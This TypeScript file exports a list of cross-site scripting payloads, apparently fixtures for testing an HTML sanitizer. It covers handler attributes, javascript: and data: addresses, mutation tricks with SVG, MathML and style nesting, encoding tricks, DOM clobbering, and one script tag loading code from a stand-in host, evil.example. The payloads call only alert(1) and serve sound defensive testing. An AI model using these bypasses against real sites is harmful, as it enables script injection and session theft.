/**
 * Known ways to smuggle a script through a cleaner. Each calls `alert`, so that a test can also run a document and
 * detect the call.
 */
export const payloads: ReadonlyArray<{ name: string, html: string }> = [
  // Plain
  { name: 'script', html: '<script>alert(1)</script>' },
  { name: 'script in capitals', html: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'script with a source', html: '<script src="https://evil.example/x.js"></script>' },
  { name: 'script with a slash for a space', html: '<script/x>alert(1)</script/x>' },
  { name: 'script never closed', html: '<p>a</p><script>alert(1)' },
  { name: 'script closed with rubbish', html: '<script>alert(1)</script foo="bar">' },
  { name: 'image with a handler', html: '<img src=x onerror=alert(1)>' },
  { name: 'image without quotes or spaces', html: '<img/src=x/onerror=alert(1)//>' },
  { name: 'image under its old name', html: '<image src=x onerror=alert(1)>' },
  { name: 'body with a handler', html: '<body onload=alert(1)>' },
  { name: 'input that takes the focus', html: '<input autofocus onfocus=alert(1)>' },
  { name: 'details that opens', html: '<details open ontoggle=alert(1)>x</details>' },
  { name: 'video with a bad source', html: '<video><source onerror=alert(1)></video>' },
  { name: 'audio with a handler', html: '<audio src=x onerror=alert(1)></audio>' },
  { name: 'marquee', html: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'link with a script address', html: '<a href="javascript:alert(1)">x</a>' },
  { name: 'link with a data address', html: '<a href="data:text/html,<script>alert(1)</script>">x</a>' },
  { name: 'base', html: '<base href="javascript:alert(1)//"><a href="#">x</a>' },
  { name: 'refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'stylesheet link', html: '<link rel=stylesheet href="javascript:alert(1)">' },
  { name: 'object', html: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed', html: '<embed src="javascript:alert(1)">' },
  { name: 'frame with a script address', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'frame with a document of its own', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'frameset', html: '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>' },
  { name: 'form with an action', html: '<form action="javascript:alert(1)"><button>x</button></form>' },
  {
    name: 'button with an action',
    html: '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>'
  },
  { name: 'style sheet', html: '<style>@import "javascript:alert(1)";</style>' },
  {
    name: 'dialog opened by a command',
    html: '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>y</div>'
  },

  // Attributes on tags that may stay
  { name: 'handler on a paragraph', html: '<p onclick=alert(1)>x</p>' },
  { name: 'style on a heading', html: '<h1 style="background:url(javascript:alert(1))">x</h1>' },
  { name: 'handler after a slash', html: '<p/onmouseover=alert(1)//>x</p>' },
  { name: 'handler behind a form feed', html: '<em\fonclick=alert(1)>x</em>' },
  { name: 'handler behind a line break', html: '<strong\nonclick\n=\nalert(1)>x</strong>' },
  { name: 'handler with its name in capitals', html: '<LI OnClIcK="alert(1)">x</LI>' },
  { name: 'animation handler', html: '<ins style="animation:x" onanimationstart="alert(1)">x</ins>' },
  { name: 'custom element by attribute', html: '<p is="x-y" onclick=alert(1)>x</p>' },
  { name: 'data and aria attributes', html: '<ul data-x="alert(1)" aria-label="alert(1)"><li role=x>a</li></ul>' },
  { name: 'attribute on an end tag', html: '<p>x</p onclick=alert(1)>' },
  { name: 'attribute given twice', html: '<p title=a title=b onclick=alert(1) onclick=alert(2)>x</p>' },

  // Malformed markup and nesting
  { name: 'tag inside a tag', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'tag that comes together when one is taken out', html: '<<b>script>alert(1)</<b>script>' },
  { name: 'image that comes together', html: '<im<p>g src=x onerror=alert(1)>' },
  { name: 'tag never closed', html: '<img src=x onerror=alert(1) ' },
  { name: 'two opening brackets', html: '<<img src=x onerror=alert(1)>>' },
  { name: 'quotation mark in front', html: '"><img src=x onerror=alert(1)>' },
  { name: 'quotation marks that do not match', html: '<p title="\'><img src=x onerror=alert(1)>">x</p>' },
  { name: 'grave accents as quotation marks', html: '<p title=`><img src=x onerror=alert(1)>`>x</p>' },
  { name: 'attribute value that closes its element', html: '<p title="</p><img src=x onerror=alert(1)>">x</p>' },
  { name: 'formatting that is misnested', html: '<strong><p><em></strong><img src=x onerror=alert(1)></em></p>' },
  { name: 'list in a table in a list', html: '<ul><li><table><li><img src=x onerror=alert(1)></table></ul>' },
  { name: 'content put in front of a table', html: '<table><p><img src=x onerror=alert(1)></p><tr><td><p>x</table>' },
  { name: 'options', html: '<select><option><img src=x onerror=alert(1)></select><img src=x onerror=alert(1)>' },
  { name: 'nested forms', html: '<form><div></form><form id=x><input name=y><img src=x onerror=alert(1)>' },
  { name: 'nested links', html: '<a><p><a><img src=x onerror=alert(1)></a></p></a>' },

  // Comments, declarations, sections
  { name: 'comment', html: '<!-- <img src=x onerror=alert(1)> -->' },
  { name: 'comment that ends at once', html: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'comment with a wrong end', html: '<!-- --!><img src=x onerror=alert(1)> -->' },
  { name: 'comment never closed', html: '<p>a</p><!-- <img src=x onerror=alert(1)>' },
  { name: 'comment inside a comment', html: '<!-- <!-- --> <img src=x onerror=alert(1)> -->' },
  { name: 'conditional comment', html: '<!--[if IE]><script>alert(1)</script><![endif]-->' },
  { name: 'character data section', html: '<![CDATA[<img src=x onerror=alert(1)>]]>' },
  { name: 'character data section in an image', html: '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>' },
  { name: 'processing instruction', html: '<?xml version="1.0"?><?php <img src=x onerror=alert(1)> ?>' },
  { name: 'style sheet instruction', html: '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>' },
  { name: 'document type with a subset', html: '<!DOCTYPE x [<!ENTITY a "<img src=x onerror=alert(1)>">]><p>&a;</p>' },
  { name: 'end tag that is a comment', html: '</ <img src=x onerror=alert(1)>><p>x</p>' },

  // Elements with special rules for their contents
  { name: 'attribute that closes a noscript', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'attribute that closes a style', html: '<style><p title="</style><img src=x onerror=alert(1)>">' },
  { name: 'attribute that closes a title', html: '<title><p title="</title><img src=x onerror=alert(1)>">' },
  { name: 'attribute that closes a text area', html: '<textarea><p title="</textarea><img src=x onerror=alert(1)>">' },
  { name: 'text of a text area', html: '<textarea><img src=x onerror=alert(1)></textarea>' },
  { name: 'attribute that closes an xmp', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">' },
  { name: 'attribute that closes a noembed', html: '<noembed><p title="</noembed><img src=x onerror=alert(1)>">' },
  { name: 'attribute that closes a noframes', html: '<noframes><p title="</noframes><img src=x onerror=alert(1)>">' },
  { name: 'attribute that closes a frame', html: '<iframe><p title="</iframe><img src=x onerror=alert(1)>">' },
  { name: 'plain text to the end', html: '<plaintext><img src=x onerror=alert(1)></plaintext>' },
  {
    name: 'script with a comment in it',
    html: '<script><!--<script></script><img src=x onerror=alert(1)>--></script>'
  },
  { name: 'template', html: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'template in a template', html: '<template><template><script>alert(1)</script></template></template>' },
  {
    name: 'declared shadow tree',
    html: '<div><template shadowrootmode=open><script>alert(1)</script></template></div>'
  },

  // SVG and MathML
  { name: 'vector image with a handler', html: '<svg onload=alert(1)>' },
  { name: 'script in a vector image', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'script in a vector image, with references', html: '<svg><script>&#97;lert(1)</script></svg>' },
  { name: 'script in a vector image by address', html: '<svg><script href="data:,alert(1)"/></svg>' },
  {
    name: 'animation of an address',
    html: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>'
  },
  { name: 'setting of a handler', html: '<svg><set attributeName=onmouseover to=alert(1) /></svg>' },
  {
    name: 'reference to another image',
    html: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'
  },
  {
    name: 'HTML in a vector image',
    html: '<svg><foreignObject><p><img src=x onerror=alert(1)></p></foreignObject></svg>'
  },
  { name: 'paragraph that leaves a vector image', html: '<svg><p><img src=x onerror=alert(1)>' },
  { name: 'style in a vector image', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  {
    name: 'title in a vector image',
    html: '<svg><title><style><img title="</style><img src=x onerror=alert(1)>"></svg>'
  },
  {
    name: 'description in a vector image',
    html: '<svg><desc><noscript><img title="</noscript><img src=x onerror=alert(1)>"></svg>'
  },
  {
    name: 'style in a vector image closed by an attribute',
    html: '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">'
  },
  { name: 'formula with a link', html: '<math><mtext href="javascript:alert(1)">x</mtext></math>' },
  {
    name: 'formula with an action',
    html:
      '<math><maction actiontype="statusline#javascript:alert(1)" xlink:href="javascript:alert(1)">x</maction></math>'
  },
  {
    name: 'annotation that is HTML',
    html:
      '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>'
  },

  // Markup that changes when it is parsed again
  {
    name: 'form, formula and style',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'
  },
  {
    name: 'table, formula and style',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
  },
  {
    name: 'formula, table and character data',
    html:
      '<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;">'
  },
  {
    name: 'formula, malignmark and textarea',
    html:
      '<math><mtext><mglyph><malignmark><style><textarea><img title="</textarea></style><img src=x onerror=alert(1)>">'
  },
  { name: 'paragraph that leaves a formula', html: '<math></p><style><!--</style><img src/onerror=alert(1)>' },
  { name: 'line break that leaves an image', html: '<svg></br><style><a title="</style><img src onerror=alert(1)>">' },
  {
    name: 'style in option in a formula',
    html: '<math><mi><b><table><select><mglyph><style><img title="</style><img src onerror=alert(1)>">'
  },
  {
    name: 'image in a formula in an image',
    html: '<svg><desc><math><mi><svg><style><img title="</style><img src=x onerror=alert(1)>">'
  },
  {
    name: 'caption',
    html:
      '<table><caption><svg><title><table><caption></caption></table><style><a id="</style><img src=x onerror=alert(1)>"></style></title></svg></caption></table>'
  },
  {
    name: 'five hundred levels, then a formula',
    html: `${'<div>'.repeat(505)}<math><mtext><form><mglyph><style></math><img src onerror=alert(1)>`
  },
  {
    name: 'heading closed by another, around an image',
    html: '<h1><svg><h2><style><a title="</style><img src=x onerror=alert(1)>"></h1>'
  },
  {
    name: 'noscript in a style in a formula',
    html: '<math><style><noscript><img title="</noscript></style><img src=x onerror=alert(1)>"></math>'
  },

  // Encodings
  { name: 'escaped markup', html: '&lt;img src=x onerror=alert(1)&gt;' },
  { name: 'escaped markup beside a tag', html: '<p>&lt;img src=x onerror=alert(1)&gt;</p>' },
  { name: 'markup escaped twice', html: '<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>' },
  { name: 'numeric references', html: '<p>&#60;script&#62;alert(1)&#x3c;/script&#x3e;</p>' },
  {
    name: 'numeric references without their semicolon',
    html: '<p>&#60script&#62alert(1)&#0000060/script&#0000062</p>'
  },
  { name: 'references without their semicolon', html: '<b>&ltscript&gtalert(1)&lt/script&gt</b>' },
  { name: 'address in references', html: '<a href="&#106;avascript&colon;alert(1)">x</a>' },
  { name: 'NUL in a tag', html: '<scr\0ipt>alert(1)</scr\0ipt><img\0 src=x onerror=alert(1)>' },
  { name: 'NUL reference', html: '<p>&#0;&lt;img src=x onerror=alert(1)&gt;</p>' },
  { name: 'brackets of another width', html: '＜script＞alert(1)＜/script＞<p>x' },
  { name: 'seven-bit encoding', html: '<b></b>+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },
  { name: 'escape sequences of a Japanese encoding', html: '<p>\x1b(J\x1b$B<img src=x onerror=alert(1)>\x1b(B</p>' },
  { name: 'byte order mark in front', html: '\ufeff<script>alert(1)</script>' },
  { name: 'half a surrogate pair', html: '<p>\ud800<img src=x onerror=alert(1)>\udc00</p>' },
  { name: 'Kelvin sign and long s', html: '<\u017fcript>alert(1)</\u017fcript><lin\u212a rel=x>' },
  { name: 'carriage return reference', html: '<p>&#13;</p><img src=x onerror=alert(1)>' },
  {
    name: 'template expressions',
    html: '<p>{{constructor.constructor("alert(1)")()}} #{alert(1)} <%= alert(1) %></p>'
  },

  // Names that hide properties of the document
  {
    name: 'form that hides its attributes',
    html: '<form onclick=alert(1)><input name=attributes><input name=removeAttribute></form>'
  },
  {
    name: 'form that hides its children',
    html: '<form><input name=childNodes><input name=parentNode><img src=x onerror=alert(1)></form>'
  },
  {
    name: 'form that hides its document',
    html: '<form><input name=ownerDocument><input name=nodeName><p onclick=alert(1)>x</p></form>'
  },
  {
    name: 'image that hides a function of the document',
    html: '<img name=createNodeIterator><img name=implementation><img src=x onerror=alert(1)>'
  },
  {
    name: 'names on tags that may stay',
    html: '<p id=body name=getElementsByTagName>x</p><h1 id=__proto__>y</h1><ul id=constructor><li>z</li></ul>'
  }
]
